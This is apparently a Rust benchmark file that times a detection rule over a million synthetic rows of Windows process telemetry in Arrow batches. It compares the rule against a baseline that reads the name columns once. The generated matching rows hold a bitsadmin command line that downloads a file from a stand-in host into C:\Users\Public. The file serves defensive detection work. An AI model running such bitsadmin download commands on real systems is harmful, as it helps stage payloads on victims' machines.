//! The rule over a million rows of Arrow record batches, of which one in a
//! thousand matches, next to reading both name columns once.
//!
//! The rows are made from a seed: names as common on Windows, in the share that a
//! busy workstation has them; command lines of 60 to 200 bytes.

mod turns;

use std::hint::black_box;
use std::sync::Arc;
use std::time::Duration;

use arrow_array::cast::AsArray;
use arrow_array::{ArrayRef, Int64Array, RecordBatch, StringArray};
use criterion::{Criterion, Throughput, criterion_group, criterion_main};
use rulespec::fast::columns::Plan;

const ROWS: usize = 1_000_000;
const MATCHES: usize = ROWS / 1_000;
/// As many rows as DataFusion and DuckDB put into a batch, or close to it.
const BATCH: usize = 65_536;

const NAMES: [&str; 12] = [
    "svchost.exe",
    "conhost.exe",
    "cmd.exe",
    "powershell.exe",
    "chrome.exe",
    "msedge.exe",
    "taskhostw.exe",
    "RuntimeBroker.exe",
    "backgroundTaskHost.exe",
    "git.exe",
    "SearchProtocolHost.exe",
    "bitsadmin.exe",
];

/// A sequence of numbers, always the same (SplitMix64).
struct Numbers(u64);

impl Numbers {
    fn below(&mut self, bound: usize) -> usize {
        self.0 = self.0.wrapping_add(0x9e37_79b9_7f4a_7c15);
        let mut mixed = self.0;
        mixed = (mixed ^ (mixed >> 30)).wrapping_mul(0xbf58_476d_1ce4_e5b9);
        mixed = (mixed ^ (mixed >> 27)).wrapping_mul(0x94d0_49bb_1331_11eb);
        ((mixed ^ (mixed >> 31)) % bound as u64) as usize
    }
}

/// What one row has: a name and a command line.
fn row(number: usize, numbers: &mut Numbers) -> (&'static str, String) {
    if number.is_multiple_of(ROWS / MATCHES) {
        let line =
            format!(r"bitsadmin /transfer job{number} http://files.example/{number} C:\Users\Public\a.bin");
        return ("bitsadmin.exe", line);
    }
    // One in a thousand more is the program, and moves no file.
    let name = match numbers.below(1_000) {
        0 => "bitsadmin.exe",
        _ => NAMES[numbers.below(NAMES.len() - 1)],
    };
    let padding = "x".repeat(numbers.below(140));
    (name, format!(r#""C:\Windows\System32\{name}" -k netsvcs -p -s Schedule {number} {padding}"#))
}

fn batch(first: usize, rows: usize, numbers: &mut Numbers) -> RecordBatch {
    let (names, lines): (Vec<_>, Vec<_>) = (first..first + rows).map(|number| row(number, numbers)).unzip();
    let texts = |texts: Vec<String>| Arc::new(StringArray::from(texts)) as ArrayRef;
    let same = |text: &str| texts(vec![text.to_owned(); rows]);
    let name = Arc::new(StringArray::from(names.clone())) as ArrayRef;
    RecordBatch::try_from_iter([
        ("TimeGenerated", same("2026-01-02T03:04:05Z")),
        ("DeviceId", same("0a1b2c3d4e5f")),
        ("DeviceName", same("ws07.corp.example")),
        ("FileName", name.clone()),
        ("ProcessVersionInfoOriginalFileName", name),
        ("ProcessCommandLine", texts(lines)),
        ("ProcessId", Arc::new(Int64Array::from_iter_values((0..rows as i64).map(|row| row * 4)))),
        ("InitiatingProcessFolderPath", same(r"c:\windows\system32\cmd.exe")),
        ("InitiatingProcessAccountDomain", same("corp")),
        ("InitiatingProcessAccountName", same("e.larsen")),
        ("InitiatingProcessSHA256", same("")),
    ])
    .unwrap()
}

fn batches() -> Vec<RecordBatch> {
    let mut numbers = Numbers(1);
    let first = (0..ROWS).step_by(BATCH);
    first.map(|first| batch(first, BATCH.min(ROWS - first), &mut numbers)).collect()
}

fn matches(plan: &Plan, batches: &[RecordBatch]) -> usize {
    batches.iter().map(|batch| plan.run(batch).unwrap().num_rows()).sum()
}

/// The sum of all offsets and bytes of a column of texts.
fn sum(column: &ArrayRef) -> u64 {
    let texts = column.as_string::<i32>();
    let offsets: u64 = texts.value_offsets().iter().map(|offset| *offset as u64).sum();
    let bytes: u64 = texts.value_data().iter().map(|byte| u64::from(*byte)).sum();
    offsets.wrapping_add(bytes)
}

fn floor(batches: &[RecordBatch]) -> u64 {
    let names = ["FileName", "ProcessVersionInfoOriginalFileName"];
    batches.iter().flat_map(|batch| names.map(|name| sum(&batch[name]))).fold(0, u64::wrapping_add)
}

fn columns(c: &mut Criterion) {
    let batches = batches();
    let plan = Plan::new(batches[0].schema()).unwrap();
    assert_eq!(matches(&plan, &batches), MATCHES);
    assert_ne!(floor(&batches), 0);
    let mut group = c.benchmark_group("columns");
    group.throughput(Throughput::Elements(ROWS as u64));
    group.bench_function("rule", |b| b.iter(|| matches(black_box(&plan), black_box(&batches))));
    group.bench_function("floor", |b| b.iter(|| floor(black_box(&batches))));
    group.finish();
    let rule = || matches(black_box(&plan), black_box(&batches)) as u64;
    turns::compare("columns: rule by floor", &rule, &|| floor(black_box(&batches)));
}

criterion_group! {
    name = all;
    config = Criterion::default().measurement_time(Duration::from_secs(3)).warm_up_time(Duration::from_secs(1));
    targets = columns
}
criterion_main!(all);
